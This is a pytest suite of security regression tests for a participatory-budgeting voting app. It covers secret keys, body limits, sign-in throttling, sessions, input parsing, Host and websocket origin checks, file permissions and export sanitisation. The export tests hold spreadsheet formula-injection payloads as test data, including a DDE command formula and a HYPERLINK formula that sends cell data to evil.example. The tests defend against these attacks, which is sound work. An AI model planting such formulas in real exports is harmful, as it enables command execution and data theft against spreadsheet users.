"""The holes a security review found from outside (issue 11, hardening lines 1 to 9), each told
as what an attacker tried and what happens now. Every test here failed before its fix."""

import os
import stat
import time

import pytest
from fastapi.testclient import TestClient
from sqlmodel import text
from starlette.websockets import WebSocketDisconnect

from core.settings import Settings
from tests.builders import PASSWORD, a_pb_day, csrf_from, passes_for, sign_in
from voting import repository as voting_repo

SECURITY_HEADERS = ("content-security-policy", "referrer-policy", "x-content-type-options", "x-frame-options")


def mode_of(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


class FakeClock:
    """time.time() for the code under test, moved forward by the test instead of waited for."""

    def __init__(self) -> None:
        self.now = time.time()

    def time(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


# --- 1. a known SECRET_KEY ---------------------------------------------------------------------

class TestNoKnownSecretKey:
    @pytest.mark.parametrize("published", ["dev-only-secret-change-me", "test-secret-key", "change-me"])
    def test_a_published_key_is_refused_with_a_clear_error(self, published):
        with pytest.raises(ValueError, match="SECRET_KEY is set to a published example value"):
            Settings(secret_key=published)

    def test_a_short_key_is_refused(self):
        with pytest.raises(ValueError, match="SECRET_KEY is too short"):
            Settings(secret_key="hunter2")

    @pytest.mark.parametrize("repetitive", [" " * 32, "a" * 44, "ab" * 20, "0123" * 10])
    def test_a_long_but_repetitive_key_is_refused(self, repetitive):
        """Found from outside: 32 spaces or 44 times "a" were accepted as a secret."""
        with pytest.raises(ValueError, match="SECRET_KEY is too repetitive"):
            Settings(secret_key=repetitive)

    def test_a_hex_key_from_openssl_is_accepted(self):
        assert Settings(secret_key="3f9c2b7a1e8d4c6f0a5b9e2d7c1f3a8b6e4d2c9f7a1b5e3d8c6f0a2b4e9d7c1f").secret_key

    def test_without_a_key_a_random_one_is_made_once_and_kept_owner_only(self, tmp_path, monkeypatch):
        import core.settings

        monkeypatch.setattr(core.settings, "VAR_DIR", tmp_path / "var")
        monkeypatch.delenv("SECRET_KEY", raising=False)

        first, again = Settings().secret_key, Settings().secret_key

        assert len(first) >= 32 and first == again
        key_file = tmp_path / "var" / "secret.key"
        assert key_file.read_text() == first
        assert mode_of(key_file) == 0o600

    def test_two_installations_get_different_keys(self, tmp_path, monkeypatch):
        import core.settings

        monkeypatch.delenv("SECRET_KEY", raising=False)
        keys = []
        for name in ("one", "two"):
            monkeypatch.setattr(core.settings, "VAR_DIR", tmp_path / name)
            keys.append(Settings().secret_key)

        assert keys[0] != keys[1]


# --- 2. body size and work done under the write lock -------------------------------------------

def two_megabytes_in_chunks():
    """A ballot body sent in pieces, with no Content-Length to refuse it by."""
    yield b'{"pass": "'
    for _ in range(200):
        yield b"A" * 10_000
    yield b'"}'


class TestBodyLimits:
    def test_a_ten_megabyte_pass_is_refused_with_413_before_it_is_read(self, client, db):
        day = a_pb_day(db)

        response = client.post(f"/api/v1/rounds/{day.round_id}/ballots",
                               json={"pass": "A" * 10_000_000, "scores": {str(day.proposals[0].id): 3}})

        assert response.status_code == 413
        assert response.headers["content-type"] == "application/problem+json"
        assert response.json()["title"] == "Too large"
        assert all(name in response.headers for name in SECURITY_HEADERS)

    def test_a_body_sent_in_chunks_without_a_length_is_cut_off_too(self, client, db):
        day = a_pb_day(db)

        response = client.post(f"/api/v1/rounds/{day.round_id}/ballots", content=two_megabytes_in_chunks(),
                               headers={"content-type": "application/json"})

        assert response.status_code == 413

    def test_calling_an_api_body_an_upload_does_not_raise_its_limit(self, client, db):
        """Found from outside: the limit followed the Content-Type the client claimed, so a ballot sent as
        multipart/form-data could be 16 MB. The JSON API takes no uploads."""
        day = a_pb_day(db)

        response = client.post(f"/api/v1/rounds/{day.round_id}/ballots", content=two_megabytes_in_chunks(),
                               headers={"content-type": "multipart/form-data; boundary=x"})

        assert response.status_code == 413

    def test_an_oversized_form_gets_a_page_for_people(self, client, db):
        a_pb_day(db)

        response = client.post("/kiosk", data={"code": "A" * 1_000_000})

        assert response.status_code == 413
        assert response.headers["content-type"].startswith("text/html")
        assert "too large" in response.text

    def test_a_long_pass_and_a_bad_ballot_are_refused_before_the_write_lock(self, db, monkeypatch):
        from voting import casting
        from voting.ballots import BallotChoices
        from voting.errors import InvalidBallot, UnknownPass

        day = a_pb_day(db)
        [code] = passes_for(db, day.round_id)
        writes = []
        real_session = db.session

        def watched_session(*, write=False):
            writes.append(write)
            return real_session(write=write)

        monkeypatch.setattr(db, "session", watched_session)

        with pytest.raises(UnknownPass):
            casting.cast_with_replay(db, round_id=day.round_id, code="A" * 100_000,
                                     choices=BallotChoices(scores={day.proposals[0].id: 3}), idempotency_key=None)
        with pytest.raises(InvalidBallot):
            casting.cast_with_replay(db, round_id=day.round_id, code=code,
                                     choices=BallotChoices(scores={day.proposals[0].id: 99}), idempotency_key=None)

        assert True not in writes


# --- 3. sign-in throttling instead of a lock anyone can trigger --------------------------------

class TestSignInThrottling:
    def sign_in_with(self, client, password, username="chair"):
        token = csrf_from(client.get("/login").text)
        return client.post("/login", data={"username": username, "password": password, "csrf_token": token},
                           follow_redirects=False)

    def test_wrong_passwords_make_the_next_try_wait_and_then_it_works(self, client, db, monkeypatch):
        import governance.service

        clock = FakeClock()
        monkeypatch.setattr(governance.service, "time", clock)
        a_pb_day(db, open_vote=False)
        for _ in range(4):
            assert self.sign_in_with(client, "guess").status_code == 401

        waiting = self.sign_in_with(client, PASSWORD)
        clock.advance(int(waiting.headers["retry-after"]))
        afterwards = self.sign_in_with(client, PASSWORD)

        assert waiting.status_code == 429
        assert "Too many wrong passwords. Wait 2 seconds" in waiting.text
        assert afterwards.status_code == 303

    def test_the_wait_doubles_with_each_wrong_password_and_is_logged(self, client, db, monkeypatch):
        import governance.service

        clock = FakeClock()
        monkeypatch.setattr(governance.service, "time", clock)
        a_pb_day(db, open_vote=False)
        waits = []
        for _ in range(12):
            response = self.sign_in_with(client, "guess")
            if response.status_code == 429:
                waits.append(int(response.headers["retry-after"]))
                clock.advance(waits[-1])

        assert waits[:4] == [2, 4, 8, 16]
        with db.session() as session:
            logged = session.exec(text("SELECT payload FROM audit_event WHERE action = 'sign_in.throttled'")).all()
        assert sorted(row[0] for row in logged) == ['{"by":"account"}', '{"by":"client"}']

    def test_an_attacker_cannot_lock_the_admin_out(self, db, monkeypatch):
        import governance.service
        from governance.service import TooManyAttempts, authenticate

        clock = FakeClock()
        monkeypatch.setattr(governance.service, "time", clock)
        a_pb_day(db, open_vote=False)
        for _ in range(50):  # an attacker from one address, as fast as the waits allow
            try:
                with db.session(write=True) as session:
                    authenticate(session, "chair", "guess", client="203.0.113.9")
            except TooManyAttempts as wait:
                clock.advance(wait.wait_seconds)

        clock.advance(61)  # the longest a username is ever held up
        with db.session(write=True) as session:
            staff = authenticate(session, "chair", PASSWORD, client="198.51.100.4")
        with pytest.raises(TooManyAttempts), db.session(write=True) as session:
            authenticate(session, "chair", PASSWORD, client="203.0.113.9")  # the guesser still waits

        assert staff is not None and staff.username == "chair"

    def keep_the_account_waiting(self, db, clock, username="chair", tries=200):
        """Found from outside: wrong passwords from ever new addresses, sent the moment each wait ends."""
        from governance.service import TooManyAttempts, authenticate

        for n in range(tries):
            try:
                with db.session(write=True) as session:
                    authenticate(session, username, "guess", client=f"203.0.{n // 250}.{n % 250}")
            except TooManyAttempts as wait:
                clock.advance(wait.wait_seconds)

    def test_an_attacker_on_many_addresses_cannot_keep_a_known_device_out(self, db, monkeypatch):
        import governance.service
        from governance.service import TooManyAttempts, authenticate, device_token

        clock = FakeClock()
        monkeypatch.setattr(governance.service, "time", clock)
        a_pb_day(db, open_vote=False)
        with db.session(write=True) as session:  # the chair signed in on this laptop last week
            assert authenticate(session, "chair", PASSWORD, client="198.51.100.4") is not None
        laptop = device_token("chair")

        self.keep_the_account_waiting(db, clock)

        with db.session(write=True) as session:
            from_the_laptop = authenticate(session, "chair", PASSWORD, client="198.51.100.4", device=laptop)
        with pytest.raises(TooManyAttempts), db.session(write=True) as session:
            authenticate(session, "chair", PASSWORD, client="192.0.2.7")  # a new machine waits its turn
        forged = laptop.split(".")[0] + "." + "0" * 64
        with pytest.raises(TooManyAttempts), db.session(write=True) as session:
            authenticate(session, "chair", PASSWORD, client="192.0.2.8", device=forged)
        with pytest.raises(TooManyAttempts), db.session(write=True) as session:
            authenticate(session, "chair", PASSWORD, client="192.0.2.9", device=device_token("officer"))

        assert from_the_laptop is not None and from_the_laptop.username == "chair"

    def test_a_device_guessing_on_its_own_waits_on_its_own(self, db, monkeypatch):
        import governance.service
        from governance.service import TooManyAttempts, authenticate, device_token

        clock = FakeClock()
        monkeypatch.setattr(governance.service, "time", clock)
        a_pb_day(db, open_vote=False)
        stolen = device_token("chair")  # a known device's cookie does not buy unlimited guesses
        refused = 0
        for n in range(10):
            try:
                with db.session(write=True) as session:
                    authenticate(session, "chair", "guess", client=f"203.0.113.{n}", device=stolen)
            except TooManyAttempts:
                refused += 1

        assert refused > 0

    def test_signing_in_marks_the_browser_as_a_known_device(self, app, client, db, monkeypatch):
        import governance.service

        clock = FakeClock()
        monkeypatch.setattr(governance.service, "time", clock)
        a_pb_day(db, open_vote=False)

        signed_in = self.sign_in_with(client, PASSWORD)
        cookie = signed_in.headers["set-cookie"]
        client.post("/logout", data={"csrf_token": csrf_from(client.get("/manage").text)})
        self.keep_the_account_waiting(db, clock)
        again = self.sign_in_with(client, PASSWORD)

        assert "cp_device=" in cookie and "httponly" in cookie.lower() and "samesite=lax" in cookie.lower()
        assert again.status_code == 303

    def test_an_unknown_username_gets_the_same_answer_as_a_wrong_password(self, client, db, monkeypatch):
        import governance.service

        clock = FakeClock()
        monkeypatch.setattr(governance.service, "time", clock)
        a_pb_day(db, open_vote=False)
        answers = {}
        for username in ("chair", "nobody-by-this-name"):
            clock.advance(2 * 3600)  # this client's earlier mistakes are forgotten
            attempts = [self.sign_in_with(client, "guess", username) for _ in range(5)]
            answers[username] = [(a.status_code, a.headers.get("retry-after")) for a in attempts]
            assert "That username and password do not match an account." in attempts[0].text

        assert answers["chair"] == answers["nobody-by-this-name"]

    def test_an_unknown_username_costs_a_password_check_like_a_known_one(self, db, monkeypatch):
        import governance.service
        from governance.service import authenticate

        a_pb_day(db, open_vote=False)
        checks = []
        real_verify = governance.service.verify_password
        monkeypatch.setattr(governance.service, "verify_password",
                            lambda stored, given: checks.append(stored) or real_verify(stored, given))

        with db.session(write=True) as session:
            authenticate(session, "nobody-by-this-name", "guess", client="a")
            authenticate(session, "chair", "guess", client="b")

        assert len(checks) == 2 and all(h and h.startswith("$argon2") for h in checks)


# --- 4. sessions that end ------------------------------------------------------------------------

class TestStaffSessions:
    def test_a_copied_cookie_stops_working_when_its_owner_signs_out(self, app, client, db):
        a_pb_day(db, open_vote=False)
        token = sign_in(client, "chair")
        copied = client.cookies["cp_session"]

        client.post("/logout", data={"csrf_token": token})
        with TestClient(app, cookies={"cp_session": copied}) as thief:
            response = thief.get("/manage", follow_redirects=False)

        assert response.status_code == 303 and response.headers["location"].startswith("/login")

    def test_a_session_left_idle_ends(self, client, db, monkeypatch):
        import governance.permissions

        clock = FakeClock()
        monkeypatch.setattr(governance.permissions, "time", clock)
        a_pb_day(db, open_vote=False)
        sign_in(client, "chair")

        clock.advance(31 * 60)
        response = client.get("/manage", follow_redirects=False)

        assert response.status_code == 303

    def test_a_session_in_use_stays_open_past_the_idle_limit(self, client, db, monkeypatch):
        import governance.permissions

        clock = FakeClock()
        monkeypatch.setattr(governance.permissions, "time", clock)
        a_pb_day(db, open_vote=False)
        sign_in(client, "chair")

        for _ in range(3):
            clock.advance(20 * 60)
            assert client.get("/manage", follow_redirects=False).status_code == 200

    def test_no_session_outlives_twelve_hours(self, client, db, monkeypatch):
        import governance.permissions

        clock = FakeClock()
        monkeypatch.setattr(governance.permissions, "time", clock)
        a_pb_day(db, open_vote=False)
        sign_in(client, "chair")
        for _ in range(12 * 3):
            clock.advance(20 * 60)
            client.get("/manage", follow_redirects=False)

        clock.advance(20 * 60)
        assert client.get("/manage", follow_redirects=False).status_code == 303

    def test_the_session_cookie_is_secure_over_https(self, app, db):
        a_pb_day(db, open_vote=False)
        with TestClient(app, base_url="https://testserver") as secure_client:
            token = csrf_from(secure_client.get("/login").text)
            response = secure_client.post("/login", data={"username": "chair", "password": PASSWORD,
                                                          "csrf_token": token}, follow_redirects=False)

        assert response.status_code == 303
        assert "secure" in response.headers["set-cookie"].lower()


# --- 5. numbers from outside --------------------------------------------------------------------

FIVE_THOUSAND_DIGITS = "9" * 5000


class TestNumbersFromOutside:
    """Thirteen inputs that used to give a 500 (or, for "٣", were quietly read as 3)."""

    def round_form(self, day, token, **changes):
        form = {"csrf_token": token, "partnership_id": str(day.partnership.id), "title": "Spring fund",
                "budget": "10000", "ballot_kind": "approval", "score_max": "5", "max_picks": "",
                "counting_rule": "greedy"}
        return {**form, **changes}

    @pytest.mark.parametrize("field, value", [
        ("budget", "²"), ("budget", FIVE_THOUSAND_DIGITS), ("budget", str(10**30)), ("budget", "٣٠٠٠"),
        ("max_picks", str(2**63)), ("max_picks", "²"), ("score_max", "٣"),
    ])
    def test_a_round_form_with_a_strange_number_is_refused_in_plain_words(self, client, db, field, value):
        day = a_pb_day(db, open_vote=False)
        token = sign_in(client, "chair")

        response = client.post("/manage/rounds", data=self.round_form(day, token, **{field: value}))

        assert response.status_code == 422
        assert "whole number" in response.text or "between" in response.text
        assert "Spring fund" in response.text  # what was typed is kept

    @pytest.mark.parametrize("cost", ["²", FIVE_THOUSAND_DIGITS, "١٥٠٠"])
    def test_a_proposal_cost_with_a_strange_number_is_refused(self, client, db, cost):
        day = a_pb_day(db, open_vote=False)
        token = sign_in(client, "officer")

        response = client.post(f"/manage/rounds/{day.round_id}/proposals",
                               data={"csrf_token": token, "title": "Benches", "cost": cost})

        assert response.status_code == 422

    @pytest.mark.parametrize("field, value", [
        ("score-{project}", "²"), ("score-²", "3"), ("score-{project}", FIVE_THOUSAND_DIGITS),
    ])
    def test_a_damaged_kiosk_ballot_is_sent_back_not_crashed_on(self, client, db, field, value):
        day = a_pb_day(db)
        [code] = passes_for(db, day.round_id)

        response = client.post("/kiosk/review", data={"code": code,
                                                      field.format(project=day.proposals[0].id): value})

        assert response.status_code == 422
        assert "damaged" in response.text or "must be whole numbers" in response.text

    @pytest.mark.parametrize("choices_json", ['[1]', '"approvals"', '5', '{"scores": []}',
                                              '{"scores": {"²": 3}}', '{"approvals": ["٣"]}'])
    def test_a_forged_ballot_sent_straight_to_confirm_is_not_a_server_error(self, client, db, choices_json):
        # The kiosk keeps the reviewed ballot on the server; choices sent with Confirm are ignored.
        day = a_pb_day(db)
        [code] = passes_for(db, day.round_id)

        confirmed = client.post("/kiosk/confirm", data={"code": code, "choices_json": choices_json},
                                follow_redirects=False)

        assert confirmed.status_code in (303, 422)
        with db.session() as session:
            assert voting_repo.ballot_count(session, day.round_id) == 0

    def test_an_arabic_indic_digit_is_not_a_project_id_in_the_api(self, client, db):
        day = a_pb_day(db, costs=(1, 2, 3))
        [code] = passes_for(db, day.round_id)
        eastern = "".join("٠١٢٣٤٥٦٧٨٩"[int(d)] for d in str(day.proposals[0].id))

        response = client.post(f"/api/v1/rounds/{day.round_id}/ballots", json={"pass": code, "scores": {eastern: 3}})

        assert response.status_code == 422
        assert "is not a project id" in response.json()["detail"]

    def test_every_error_page_carries_the_security_headers(self, app, db):
        @app.get("/__boom")
        def boom():
            raise RuntimeError("a bug")

        with TestClient(app, raise_server_exceptions=False) as client:
            answers = [client.get("/__boom"), client.get("/__boom", headers={"accept": "application/json"}),
                       client.get("/no/such/page"), client.delete("/kiosk"), client.get("/api/v1/rounds/x")]

        assert [a.status_code for a in answers] == [500, 500, 404, 405, 422]
        for answer in answers:
            assert all(name in answer.headers for name in SECURITY_HEADERS), answer.status_code


# --- 6. the Host header ----------------------------------------------------------------------------

class TestPublicAddress:
    def test_a_forged_host_header_is_refused(self, client, db):
        a_pb_day(db)

        response = client.get("/", headers={"host": "evil.example"})

        assert response.status_code == 400
        assert all(name in response.headers for name in SECURITY_HEADERS)

    def test_the_desk_qr_code_points_at_the_configured_public_address(self, database_url, db, monkeypatch):
        import voting.desk
        from main import create_app

        day = a_pb_day(db)
        app = create_app(Settings(database_url=database_url, public_url="https://vote.example.org"),
                         run_migrations=False)
        encoded = []
        real_make = voting.desk.segno.make
        monkeypatch.setattr(voting.desk.segno, "make", lambda content, **kw: encoded.append(content) or
                            real_make(content, **kw))
        with TestClient(app, base_url="https://testserver") as client:  # the cookie is Secure on an https site
            token = sign_in(client, "steward")
            response = client.post("/desk/passes", data={"csrf_token": token, "round_id": str(day.round_id),
                                                         "name": "Ann Jones", "postcode": "SK10 1EA"})
        app.state.db.dispose()

        assert response.status_code == 200
        assert len(encoded) == 1 and encoded[0].startswith("https://vote.example.org/kiosk?code=")


# --- 7. the screen's websocket -----------------------------------------------------------------------

class TestScreenSocket:
    def test_a_page_on_another_site_cannot_open_the_screen_socket(self, client, db):
        day = a_pb_day(db)

        with pytest.raises(WebSocketDisconnect) as refused, client.websocket_connect(
                f"/screen/{day.round_id}/ws", headers={"origin": "https://evil.example"}):
            pass

        assert refused.value.code == 1008

    def test_an_unknown_round_is_refused_with_a_policy_code(self, client, db):
        a_pb_day(db)

        with pytest.raises(WebSocketDisconnect) as refused, client.websocket_connect("/screen/999999/ws"):
            pass

        assert refused.value.code == 1008

    def test_a_binary_frame_closes_that_screen_and_the_others_carry_on(self, client, db):
        day = a_pb_day(db)
        [code] = passes_for(db, day.round_id)

        with client.websocket_connect(f"/screen/{day.round_id}/ws", headers={"origin": "http://testserver"}) as good, \
                client.websocket_connect(f"/screen/{day.round_id}/ws") as bad:
            bad.send_bytes(b"\x00\xff")
            closed = bad.receive()
            client.post(f"/api/v1/rounds/{day.round_id}/ballots",
                        json={"pass": code, "scores": {str(day.proposals[0].id): 5}})
            fragment = good.receive_text()

        assert closed == {"type": "websocket.close", "code": 1003, "reason": ""}
        assert '<span id="turnout-count" class="turnout-count">1</span>' in fragment


# --- 8. files only their owner reads ------------------------------------------------------------------

class TestOwnerOnlyFiles:
    def test_a_new_sqlite_database_and_its_wal_files_are_owner_only(self, tmp_path):
        from core.database import Database, migrate

        old_umask = os.umask(0o022)
        try:
            url = f"sqlite:///{tmp_path / 'new.db'}"
            migrate(url)
            database = Database(url)
            with database.session(write=True) as session, database.session() as reader:
                session.exec(text("INSERT INTO governance_partnership (slug, name, area, description) "
                                  "VALUES ('x', 'X', '', '')"))
                reader.exec(text("SELECT 1")).all()
                modes = {p.name: mode_of(p) for p in tmp_path.iterdir()}
            database.dispose()
        finally:
            os.umask(old_umask)

        assert {"new.db", "new.db-wal", "new.db-shm"} <= set(modes)
        assert set(modes.values()) == {0o600}

    def test_an_existing_world_readable_database_is_narrowed(self, tmp_path):
        from core.database import create_engine_for

        path = tmp_path / "old.db"
        path.write_bytes(b"")
        path.chmod(0o644)

        create_engine_for(f"sqlite:///{path}").dispose()

        assert mode_of(path) == 0o600

    def test_the_audit_signing_key_is_made_owner_only(self, tmp_path, monkeypatch):
        import core.audit

        monkeypatch.setattr(core.audit, "VAR_DIR", tmp_path)
        monkeypatch.setattr(core.audit, "get_settings", lambda: Settings(audit_signing_key=""))
        old_umask = os.umask(0o022)
        try:
            core.audit.signing_key()
        finally:
            os.umask(old_umask)

        assert mode_of(tmp_path / "audit-signing.key") == 0o600


# --- 9. exports opened in spreadsheets; echoed input ----------------------------------------------------

class TestSpreadsheetSafeExports:
    def test_a_formula_title_reaches_the_pabulib_file_as_text(self, client, db):
        from pabutools.election.pabulib import parse_pabulib_from_string

        from core.audit import CLI_ACTOR
        from voting import pabulib
        from voting import service as voting_service

        day = a_pb_day(db, ballot="approval", costs=(40_000, 30_000), title="=cmd|' /C calc'!A0")
        with db.session(write=True) as session:
            session.exec(text("UPDATE proposals_proposal SET title = :t WHERE id = :i"),
                         params={"t": '=HYPERLINK("https://evil.example/?"&A1, "Details")', "i": day.proposals[0].id})
            session.exec(text("UPDATE proposals_proposal SET title = :t WHERE id = :i"),
                         params={"t": "@SUM(1+1)", "i": day.proposals[1].id})
        for code in passes_for(db, day.round_id, 3):
            client.post(f"/api/v1/rounds/{day.round_id}/ballots",
                        json={"pass": code, "approvals": [day.proposals[0].id]})
        with db.session(write=True) as session:
            voting_service.close_vote(session, CLI_ACTOR, day.round_id)
            voting_service.publish_results(session, CLI_ACTOR, day.round_id)

        exported = client.get(f"/rounds/{day.round_id}/results.pb").text

        cells = [cell.strip('"') for line in exported.splitlines() for cell in line.split(";")]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert "'=HYPERLINK(" in exported and "'@SUM(1+1)" in exported
        instance, profile = parse_pabulib_from_string(exported)  # pabutools still reads it
        assert len(instance) == 2 and len(profile) == 3
        assert len(pabulib.loads(exported).votes) == 3

    def test_a_huge_echoed_value_is_cut_short_in_the_error(self, client, db):
        day = a_pb_day(db)
        [code] = passes_for(db, day.round_id)

        response = client.post(f"/api/v1/rounds/{day.round_id}/ballots",
                               json={"pass": code, "scores": {"x" * 50_000: 3}})

        assert response.status_code == 422
        assert len(response.json()["detail"]) <= 400

    def test_a_huge_postcode_is_not_echoed_back_whole(self, client, db):
        day = a_pb_day(db)
        token = sign_in(client, "steward")

        response = client.post("/desk/passes", data={"csrf_token": token, "round_id": str(day.round_id),
                                                     "name": "Ann Jones", "postcode": "Q" * 20_000})

        alert = response.text.split('role="alert">', 1)[1].split("</p>", 1)[0]
        assert response.status_code == 422
        assert "does not look like a UK postcode" in alert and len(alert) <= 400
